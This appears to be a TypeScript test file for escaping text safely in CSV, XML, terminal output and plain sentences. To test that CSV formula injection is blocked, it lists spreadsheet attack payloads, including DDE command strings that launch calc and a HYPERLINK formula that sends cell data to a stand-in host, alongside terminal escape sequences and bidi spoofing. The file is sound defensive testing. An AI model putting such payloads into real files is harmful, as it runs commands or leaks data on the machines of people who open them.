import fc from 'fast-check';
import Papa from 'papaparse';
import { Parser } from 'saxen';
import { describe, expect, it } from 'vitest';
import { csvText, isolated, plainText, terminalText, xmlText } from './escapes.js';

const range = (first: number, last: number): string[] =>
  Array.from({ length: last - first + 1 }, (_, at) => String.fromCharCode(first + at));
const CONTROLS = [...range(0, 0x1f), ...range(0x7f, 0x9f), '\u2028', '\u2029', '\ufffe', '\uffff'];
const BIDI = ['\u061c', '\u200e', '\u200f', ...range(0x202a, 0x202e), ...range(0x2066, 0x2069)];
const HALVES = ['\ud83d', '\ude00', '\udfff\ud800'];
const ALL = [...CONTROLS, ...BIDI, ...HALVES];
const anyText = fc.array(fc.oneof(fc.constantFrom(...ALL), fc.string({ unit: 'grapheme', maxLength: 4 })), {
  maxLength: 8,
});

/** What a reader of CSV gets back. */
const readBack = (cell: string): string => (Papa.parse<string[]>(`${csvText(cell)},x`).data[0] ?? [''])[0]!;

describe('a text in CSV', () => {
  // Payloads as public lists of spreadsheet attacks have them.
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    '+1-2',
    "+1+cmd|' /C calc'!A0",
    '-1E02',
    "-7*9+f|'/C calc'!A1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\ttext',
    '\rtext',
    '\ntext',
    ' =1+1',
    '\u3000=1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\u200b=1+1',
    '\u202e=1+1',
    '\u0000=1+1',
    '"=1+1',
    "'=1+1",
    '＝1+1',
    '＋1-2',
    '－7*9',
    '＠SUM(1)',
    '﹦1+1',
  ])('%j is guarded', (text) => {
    expect(readBack(text)).toMatch(/^'/);
  });

  it.each(['-5', '-3.5%', '−5', '+5.4%', '-1,234.5', '5', '－5', '-', '—', '体育', 'a-b', '5=5'])(
    '%j passes as it is',
    (text) => {
      expect(readBack(text)).toBe(text);
    },
  );

  it('is one cell, whatever it holds, and never the start of a formula', () => {
    fc.assert(
      fc.property(anyText, (parts) => {
        const text = parts.join('');
        for (const delimiter of [',', ';', '\t']) {
          const { data } = Papa.parse<string[]>(`${csvText(text)}${delimiter}x`, { delimiter });
          expect(data).toHaveLength(1);
          expect(data[0]).toHaveLength(2);
          if (!/^[-+－＋]?[\d,.]+\s*[%‰]?$|^-$/.test(data[0]![0]!.trim()))
            expect(data[0]![0]).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/);
        }
      }),
      { numRuns: 500 },
    );
  });

  it.each(ALL.filter((char) => !'\t\r\n'.includes(char)).map((char) => [char]))('holds no %j', (char) => {
    expect(readBack(`体${char}育`)).toMatch(/^体[ \ufffd]*育$/);
  });
});

describe('a text in XML', () => {
  it.each(ALL.map((char) => [char]))('may hold %j: the whole is still XML 1.0', (char) => {
    const problems: unknown[] = [];
    const heard: string[] = [];
    const parser = new Parser();
    parser.on('error', (error) => problems.push(error));
    parser.on('warn', (error) => problems.push(error));
    parser.on('text', (text, decode) => heard.push(decode(text)));
    const xml = `<a b="${xmlText(`x${char}"<&'>y`)}">${xmlText(`x${char}]]>&<y`)}</a>`;
    parser.write(xml).end();
    expect(problems).toEqual([]);
    expect(heard.join('')).toMatch(/^x[\s\S]{1,2}\]\]>&<y$/);
    // The characters of XML 1.0, fifth edition, section 2.2.
    expect(xml).toMatch(/^[\t\n\r -\ud7ff\ue000-\ufffd\u{10000}-\u{10ffff}]*$/u);
  });
});

describe('a text on a terminal', () => {
  it.each([
    ['\u001b[31mred', '\\x1b[31mred'],
    ['\u001b]0;title\u0007', '\\x1b]0;title\\x07'],
    ['\u009b2J', '\\x9b2J'],
    ['a\nerror｜forged', 'a\\x0aerror｜forged'],
    ['a\rb\tc', 'a\\x0db\\x09c'],
    ['a\u202etxt.exe', 'a\\u202etxt.exe'],
    ['资金😀', '资金😀'],
    ['\ud83d', '\\ud83d'],
  ])('%j is seen as %s', (text, seen) => {
    expect(terminalText(text)).toBe(seen);
  });

  it.each(ALL.map((char) => [char]))('shows %j in place of obeying it', (char) => {
    expect(terminalText(char)).toMatch(/^(\\x[0-9a-f]{2}|\\u[0-9a-f]{4})+$/);
  });
});

describe('a text in a sentence', () => {
  it.each([...BIDI, ...CONTROLS, ...HALVES].map((char) => [char]))('loses %j', (char) => {
    expect(plainText(`来源${char}：2025-12-31`)).toMatch(/^来源[\s\ufffd]*：2025-12-31$/);
  });

  it('that runs leftwards does not take figures beside it along', () => {
    expect(isolated('مكتب')).toBe('\u2068مكتب\u2069');
    expect(isolated('体育 sport')).toBe('体育 sport');
  });

  it('keeps its letters of every script, pairs too, and its lines', () => {
    for (const text of ['𠮷野家', 'مكتب العمل', '一\n二\t三', '😀']) expect(plainText(text)).toBe(text);
  });
});
